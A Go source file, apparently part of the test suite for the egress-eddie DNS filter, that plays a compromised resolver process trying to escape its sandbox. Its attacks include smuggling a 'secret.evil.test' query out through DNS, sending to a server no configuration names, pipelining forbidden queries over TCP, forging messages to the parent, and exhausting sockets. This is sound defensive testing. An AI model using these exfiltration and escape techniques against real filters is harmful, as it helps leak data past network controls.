package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"github.com/capnspacehook/egress-eddie/ipc"
	"github.com/capnspacehook/egress-eddie/ipc/child"
)

// inquirer stands in for the resolver. Until its moment, and for all other
// lookups, it is honest in the plainest way: one question to the first server,
// by UDP, asked once.
type inquirer struct {
	policy  *ipc.Policy
	lookups *ipc.Receiver[ipc.Lookup, *ipc.Lookup]
	attack  attack
}

func newInquirer(p *ipc.Policy, a attack) child.Worker {
	return &inquirer{p, ipc.NewLookupReceiver(ipc.FDLookups), a}
}

func (w *inquirer) Descriptors() []int { return []int{ipc.FDLookups} }

func (w *inquirer) Ready(fd int) error {
	if fd != ipc.FDLookups { // an answer, which the response parser has seen
		return hangUp(fd)
	}
	l, err := w.lookups.Recv()
	if err != nil {
		return quiet(err)
	}
	m := &moment{policy: w.policy, lookup: l}
	switch {
	case mute:
	case strings.HasPrefix(string(l.Name), "\x02go"):
		err = w.attack(m)
	default:
		err = m.honest()
	}
	if errors.Is(err, unix.EPIPE) {
		return nil
	}
	return err
}

func (w *inquirer) Change(*ipc.Policy) error { return nil }

func (w *inquirer) Close() {}

// askHonestly asks what the holder wants asked.
func askHonestly(l *ipc.Lookup) error {
	fd, err := socket(ipc.ProtoUDP)
	if err != nil {
		return err
	}
	if _, err := unix.Write(fd, query(of(l))); err != nil {
		return nil // nobody listens there: an honest one tries again
	}
	return ipc.Watch(fd)
}

var (
	fromParent = ipc.NewPolicyReceiver(ipc.FDControl)
	sockets    int // taken so far
	lastID     uint16
)

// socket asks the parent for a socket to the first server, and takes it to a
// number of its own. The last of MaxLookups takes the place of the first.
func socket(proto uint8) (int, error) {
	if err := wish(proto); err != nil {
		return -1, err
	}
	_, fd, err := fromParent.RecvWith()
	switch {
	case errors.Is(err, io.EOF):
		return -1, unix.EPIPE // the parent is gone
	case err != nil:
		return -1, err
	case fd < 0:
		return -1, errors.New("the parent gives no socket")
	}
	to := ipc.FDSockets + sockets%ipc.MaxLookups
	sockets++
	return to, errors.Join(unix.Dup3(fd, to, unix.O_CLOEXEC), unix.Close(fd))
}

// wish asks for a socket and does not wait for it.
func wish(proto uint8) error {
	return raw(ipc.FDControl, ipc.AppendSocket(nil, ipc.Socket{Proto: proto}))
}

func hangUp(fd int) error { return errors.Join(ipc.Forget(fd), unix.Close(fd)) }

// of is the question that a lookup is about.
func of(l *ipc.Lookup) ipc.Question { return ipc.Question{Name: l.Name, Type: l.Type, Class: 1} }

// query is an ordinary one.
func query(questions ...ipc.Question) []byte { return message(1<<8, questions...) }

// message is a DNS message with these flags and questions, and another id each
// time (RFC 1035 section 4.1).
func message(flags uint16, questions ...ipc.Question) []byte {
	lastID++
	b := binary.BigEndian.AppendUint16(nil, lastID)
	b = binary.BigEndian.AppendUint16(b, flags)
	b = binary.BigEndian.AppendUint16(b, uint16(len(questions)))
	b = append(b, make([]byte, 6)...)
	for _, q := range questions {
		b = append(b, q.Name...)
		b = binary.BigEndian.AppendUint16(b, q.Type)
		b = binary.BigEndian.AppendUint16(b, q.Class)
	}
	return b
}

// resolverAttacks are those of an owned resolver: on the servers, on who judges
// its questions, and on the parent.
var resolverAttacks = map[string]attack{
	"wrong":         askWrongly,
	"tcp-partial":   overTCP(func(good, _ []byte) [][]byte { return [][]byte{good[:10]} }),
	"tcp-pipelined": overTCP(func(good, bad []byte) [][]byte { return [][]byte{append(good, bad...)} }),
	"tcp-after":     overTCP(func(good, bad []byte) [][]byte { return [][]byte{good, bad} }),
	"repeat":        repeatQuestion,

	// What the cell forbids: other servers, and a word to anybody.
	"connect":    onSocket(func(fd int) error { return unix.Connect(fd, elsewhere) }),
	"sendto":     onSocket(func(fd int) error { return unix.Sendto(fd, query(secret), 0, elsewhere) }),
	"sendmsg":    onSocket(func(fd int) error { return unix.Sendmsg(fd, query(secret), nil, elsewhere, 0) }),
	"setsockopt": onSocket(func(fd int) error { return unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_MARK, 0) }),
	"bind":       onSocket(func(fd int) error { return unix.Bind(fd, elsewhere) }),
	"recvmsg": onSocket(func(fd int) error {
		_, _, _, _, err := unix.Recvmsg(fd, make([]byte, 512), nil, 0)
		return err
	}),
	"dup3":   onSocket(func(fd int) error { return unix.Dup3(ipc.FDLookups, fd, unix.O_CLOEXEC) }),
	"socket": func(*moment) error { _, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0); return done(err) },
	"read": func(*moment) error {
		_, err := unix.Read(ipc.FDRequests, make([]byte, 512))
		return done(err)
	},
	"write-lookups":   func(*moment) error { return done(raw(ipc.FDLookups, []byte("an answer"))) },
	"write-responses": func(*moment) error { return done(raw(ipc.FDResponses, []byte("an answer"))) },
	"write-verdicts":  func(*moment) error { return done(raw(ipc.FDVerdicts, acceptRecord(3, 1))) },

	// Sockets of the parent.
	"socket-proto": wishing(func(b []byte) []byte { b[4] = 47; return b }),
	"socket-zero":  wishing(func([]byte) []byte { return make([]byte, ipc.SocketSize) }),
	"socket-stray": wishing(func(b []byte) []byte { b[7] = 1; return b }),
	"socket-7":     wishing(func(b []byte) []byte { return b[:7] }),
	"socket-9":     wishing(func(b []byte) []byte { return append(b, 0) }),
	"sockets-untaken": func(*moment) error {
		for {
			if err := wish(ipc.ProtoUDP); err != nil {
				return err
			}
		}
	},
	"sockets-taken": func(*moment) error {
		for {
			if _, err := socket(ipc.ProtoTCP); err != nil {
				return err
			}
		}
	},
}

// elsewhere is a server that no configuration names, and secret what its owner
// would like to hear.
var (
	elsewhere = &unix.SockaddrInet4{Port: 53, Addr: [4]byte{192, 0, 2, 54}}
	secret    = ipc.Question{Name: wire("secret", "evil", "test"), Type: 1, Class: 1}
)

// done is the end of an attack that the kernel should have ended.
func done(err error) error { return fmt.Errorf("it was done: %v", err) }

// onSocket does something with a socket to a server.
func onSocket(do func(fd int) error) attack {
	return func(*moment) error {
		fd, err := socket(ipc.ProtoUDP)
		if err != nil {
			return err
		}
		return done(do(fd))
	}
}

// wishing asks for a socket by a changed packet.
func wishing(change func(packet []byte) []byte) attack {
	return func(*moment) error {
		return raw(ipc.FDControl, change(ipc.AppendSocket(nil, ipc.Socket{Proto: ipc.ProtoUDP})))
	}
}

// askWrongly asks what nobody wants asked, each by a socket of its own, and
// then what is wanted.
func askWrongly(m *moment) error {
	good := of(m.lookup)
	changed := func(change func(*ipc.Question)) ipc.Question { q := good; change(&q); return q }
	address := func(labels ...string) []byte { return query(ipc.Question{Name: wire(labels...), Type: 1, Class: 1}) }
	opt := query(good)
	opt[11] = 1
	opt = append(opt, 0, 0, 41, 4, 208, 0, 0, 0, 0, 0, 0)
	for _, wrong := range [][]byte{
		address("evil", "test"),
		address("secret", "go", "example", "com"), // below what is wanted
		address("secret", "cdn", "test"),          // and below a cached name
		address("example", "com"),                 // above, and allowed to everybody
		address("cdn", "test"),                    // a cached name that is known
		query(changed(func(q *ipc.Question) { q.Type = 16 })),
		query(changed(func(q *ipc.Question) { q.Type = ipc.TypeAAAA })),
		query(ipc.Question{Name: wire("7", "100", "51", "198", "in-addr", "arpa"), Type: ipc.TypePTR, Class: 1}),
		query(secret, good),
		query(good, good),
		query(changed(func(q *ipc.Question) { q.Class = 3 })),
		query(changed(func(q *ipc.Question) { q.Name = wire("go.example.com") })),
		opt,
		message(1<<15|1<<8, good),
		message(5<<11, good), // UPDATE
		message(1<<6, good),  // a bit that no query has
		append(query(good), "secret"...),
		query(),
		[]byte("secret"),
	} {
		if err := write(wrong); err != nil {
			return err
		}
	}
	return m.honest()
}

func write(message []byte) error {
	fd, err := socket(ipc.ProtoUDP)
	if err != nil {
		return err
	}
	return raw(fd, message)
}

// overTCP writes parts of a stream to a server, of a query that is wanted and
// one that is not. After each but the last an answer is awaited.
func overTCP(parts func(good, bad []byte) [][]byte) attack {
	return func(m *moment) error {
		fd, err := socket(ipc.ProtoTCP)
		if err != nil {
			return err
		}
		framed := func(b []byte) []byte { return append(binary.BigEndian.AppendUint16(nil, uint16(len(b))), b...) }
		for i, part := range parts(framed(query(of(m.lookup))), framed(query(secret))) {
			if i > 0 {
				if err := insist(func() error { _, err := unix.Read(fd, make([]byte, 512)); return err }); err != nil {
					return err
				}
			}
			if err := insist(func() error { _, err := unix.Write(fd, part); return err }); err != nil {
				return err
			}
		}
		return nil
	}
}

// insist tries again until there is something to read, or room.
func insist(do func() error) error {
	for {
		err := do()
		if err != unix.EAGAIN {
			return err
		}
		time.Sleep(time.Millisecond)
	}
}

// repeatQuestion asks what is wanted by many sockets, without end, each time
// the same, so that it is the same request to the holder.
func repeatQuestion(m *moment) error {
	var fds []int
	for range ipc.MaxLookups / 2 {
		fd, err := socket(ipc.ProtoUDP)
		if err != nil {
			return err
		}
		fds = append(fds, fd)
	}
	same := query(of(m.lookup))
	for {
		for _, fd := range fds {
			_, _ = unix.Write(fd, same) // without room it is not sent, and the next one is
		}
	}
}
